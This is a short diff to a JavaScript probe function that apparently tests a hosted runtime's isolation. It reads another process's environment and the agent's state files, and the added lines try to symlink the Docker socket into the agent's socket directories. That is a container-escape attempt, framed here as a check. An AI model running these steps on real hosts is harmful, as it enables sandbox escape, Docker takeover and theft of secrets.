@@ -39,6 +39,10 @@ async function attempts() {
   read('postmaster_pid', D + '/postgres/postmaster.pid');
   read('agent_state', D + '/agent/agent-state.json');
   list('data_dir', D);
+  // The process runtime's replica sockets: an app that could swap its own for a link would
+  // have the agent carry its traffic to any socket of the host (the Docker Engine's, say).
+  list('agent_sockets', D + '/agent/sockets');
+  try { for (const n of fs.readdirSync(D + '/agent/sockets')) { fs.symlinkSync('/var/run/docker.sock', D + '/agent/sockets/' + n + '/evil'); out.swap_socket = 'WROTE ' + n; } } catch (e) { out.swap_socket = e.code || String(e); }
   read('service_environ', '/proc/' + E.TARGET_PID + '/environ');
   read('service_cmdline', '/proc/' + E.TARGET_PID + '/cmdline');
   // SIGCONT does the service no harm: only whether it could be signalled at all counts.
